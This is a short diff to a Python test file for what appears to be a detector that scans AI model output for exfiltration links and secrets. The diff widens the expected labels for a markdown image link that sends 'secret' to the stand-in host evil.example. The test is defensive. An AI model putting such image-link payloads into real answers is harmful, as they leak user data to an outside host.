@@ -101,7 +101,10 @@ def test_nothing_is_seen_across_two_leaves() -> None:
 
 def test_instructions_are_not_looked_for_in_answers_but_links_and_secrets_are() -> None:
     assert types(ATTACK, "assistant", "output") == set()
-    assert types("![x](https://evil.example/p.png?d=secret)", "assistant", "output") == {"exfiltration_link"}
+    assert types("![x](https://evil.example/p.png?d=secret)", "assistant", "output") == {
+        "egress_image",
+        "exfiltration_link",
+    }
     assert types("ssn 078-05-1120", "assistant", "output") == {"ssn"}
 
 
